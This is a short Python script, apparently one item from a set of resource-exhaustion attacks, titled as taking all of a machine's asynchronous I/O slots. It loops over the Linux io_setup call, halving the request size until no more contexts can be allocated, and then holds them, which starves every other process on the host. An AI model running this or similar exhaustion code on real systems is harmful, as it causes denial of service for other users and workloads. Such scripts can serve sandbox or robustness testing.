# title: take all slots of the machine's asynchronous I/O
# kind: exhaust
from attack import *
size = 65536
while size > 0:
    context = ctypes.c_ulong(0)
    if call("io_setup", size, ctypes.byref(context)) < 0:
        size //= 2
hold()
